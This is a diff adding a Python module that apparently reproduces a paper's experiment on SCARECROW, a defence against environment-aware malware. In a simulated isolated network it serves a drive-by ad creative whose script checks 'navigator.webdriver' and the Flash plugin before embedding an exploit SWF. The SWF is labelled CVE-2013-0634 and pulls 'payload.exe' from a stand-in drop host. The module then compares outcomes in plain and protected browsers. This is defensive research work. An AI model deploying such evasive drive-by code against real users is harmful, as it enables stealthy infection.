@@ -1,0 +1,116 @@
+"""§5.2: SCARECROW-style false analysis alarms.
+
+The paper cites SCARECROW (Zarras, ICCST 2014): malicious code that wants
+to stay invisible to detection systems checks for analysis-environment
+tells and disarms itself when it finds them; SCARECROW turns that logic
+against the attacker by making *every* user's browser look like an
+analysis environment, so environment-aware malware never fires for anyone.
+
+The experiment here builds a small isolated world with an
+environment-aware drive-by creative (it probes ``navigator.webdriver``
+before exploiting), then loads it in a plain user browser and in a
+SCARECROW-protected one and compares exploitation outcomes.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from repro.browser import events as ev
+from repro.browser.browser import Browser
+from repro.browser.plugins import vulnerable_profile
+from repro.malware.samples import build_executable, build_flash
+from repro.web.dns import DnsResolver
+from repro.web.http import HttpClient, HttpResponse, WebServer
+
+AD_HOST = "landing-net.com"
+PAYLOAD_HOST = "drop-zone.net"
+EXPLOIT_CVE = "CVE-2013-0634"
+
+
+def environment_aware_driveby_html() -> str:
+    """A drive-by creative that checks for analysis tells before attacking."""
+    return (
+        "<html><body>"
+        '<div class="ad-creative"><img src="http://' + AD_HOST + '/banner.png"></div>'
+        "<script>"
+        "var analyzed = navigator.webdriver;"
+        "var fl = navigator.plugins.namedItem('Flash');"
+        "if (!analyzed && fl) {"
+        "  document.write('<embed src=\"http://" + AD_HOST + "/exp.swf\" "
+        "type=\"application/x-shockwave-flash\" width=\"1\" height=\"1\">');"
+        "}"
+        "</script></body></html>"
+    )
+
+
+def _build_isolated_world() -> HttpClient:
+    resolver = DnsResolver()
+    client = HttpClient(resolver)
+    resolver.register(AD_HOST)
+    resolver.register(PAYLOAD_HOST)
+
+    swf = build_flash("scarecrow-exp", exploit_cve=EXPLOIT_CVE,
+                      payload_url=f"http://{PAYLOAD_HOST}/payload.exe")
+    exe = build_executable("fakerean", "scarecrow-drop")
+
+    ad_server = WebServer()
+    ad_server.route("/ad.html", lambda req: HttpResponse.html(
+        environment_aware_driveby_html()))
+    ad_server.route("/banner.png", lambda req: HttpResponse.binary(
+        b"\x89PNG....", "image/png"))
+    ad_server.route("/exp.swf", lambda req: HttpResponse.binary(
+        swf, "application/x-shockwave-flash"))
+    client.mount(AD_HOST, ad_server)
+
+    drop_server = WebServer()
+    drop_server.route("/payload.exe", lambda req: HttpResponse.binary(
+        exe, "application/x-msdownload"))
+    client.mount(PAYLOAD_HOST, drop_server)
+    return client
+
+
+@dataclass
+class ScarecrowOutcome:
+    """Exploitation outcomes with and without the defence."""
+
+    exploited_without_scarecrow: bool
+    exploited_with_scarecrow: bool
+    payload_dropped_without: bool
+    payload_dropped_with: bool
+
+    @property
+    def effective(self) -> bool:
+        return self.exploited_without_scarecrow and not self.exploited_with_scarecrow
+
+    def render(self) -> str:
+        return (
+            f"SCARECROW experiment: plain browser exploited="
+            f"{self.exploited_without_scarecrow} (payload dropped="
+            f"{self.payload_dropped_without}); protected browser exploited="
+            f"{self.exploited_with_scarecrow} (payload dropped="
+            f"{self.payload_dropped_with})"
+        )
+
+
+def run_scarecrow_experiment() -> ScarecrowOutcome:
+    """Load an environment-aware drive-by with and without SCARECROW."""
+    url = f"http://{AD_HOST}/ad.html"
+
+    plain_client = _build_isolated_world()
+    plain = Browser(plain_client, plugin_profile=vulnerable_profile())
+    plain_load = plain.load(url)
+
+    protected_client = _build_isolated_world()
+    protected = Browser(protected_client, plugin_profile=vulnerable_profile())
+    protected.exposes_analysis_tells = True  # the SCARECROW switch
+    protected_load = protected.load(url)
+
+    return ScarecrowOutcome(
+        exploited_without_scarecrow=plain_load.events.count(ev.EXPLOIT_SUCCESS) > 0,
+        exploited_with_scarecrow=protected_load.events.count(ev.EXPLOIT_SUCCESS) > 0,
+        payload_dropped_without=any(d.initiated_by == "exploit"
+                                    for d in plain_load.downloads),
+        payload_dropped_with=any(d.initiated_by == "exploit"
+                                 for d in protected_load.downloads),
+    )
